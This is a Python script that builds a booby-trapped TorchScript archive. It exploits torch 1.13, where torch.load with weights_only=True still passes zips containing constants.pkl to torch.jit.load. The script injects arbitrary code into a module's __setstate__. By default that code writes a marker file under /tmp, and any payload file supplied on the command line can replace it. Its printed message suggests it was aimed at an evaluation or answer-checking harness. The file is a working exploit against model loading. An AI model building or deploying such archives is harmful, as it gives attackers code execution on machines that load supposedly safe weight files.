"""Build a TorchScript archive whose __setstate__ (hand-written TorchScript) runs when torch.load
(weights_only=True) meets it: torch 1.13 dispatches any zip holding constants.pkl to torch.jit.load."""
import io, sys, zipfile, torch
from typing import Tuple

class Evil(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.w = torch.zeros(1)
    @torch.jit.export
    def __getstate__(self) -> Tuple[torch.Tensor, bool]:
        return (self.w, self.training)
    @torch.jit.export
    def __setstate__(self, state: Tuple[torch.Tensor, bool]) -> None:
        self.w = state[0]
        self.training = state[1]
    def forward(self, x):
        return x

def build(body, out):
    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(Evil()), buf)
    zin = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    zout_buf = io.BytesIO()
    with zipfile.ZipFile(zout_buf, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename.endswith("code/__torch__.py"):
                src = data.decode()
                anchor = "    self.training = (state)[1]\n"
                assert anchor in src
                src = src.replace(anchor, anchor + body)
                data = src.encode()
            if info.filename.endswith(".debug_pkl"):
                continue
            zout.writestr(info, data)
    open(out, "wb").write(zout_buf.getvalue())
    return zout_buf.getvalue()

BODY_WRITE = '''    t = torch.from_file("/tmp/PWNED_BY_PROGRAM", True, 64, dtype=6)
    t.fill_(65.)
    print("TORCHSCRIPT FROM THE PROGRAM RUNS IN THE ANSWERER; wrote /tmp/PWNED_BY_PROGRAM")
'''
if __name__ == "__main__":
    build(BODY_WRITE if len(sys.argv) < 3 else open(sys.argv[2]).read(), sys.argv[1])
    print("built", sys.argv[1])
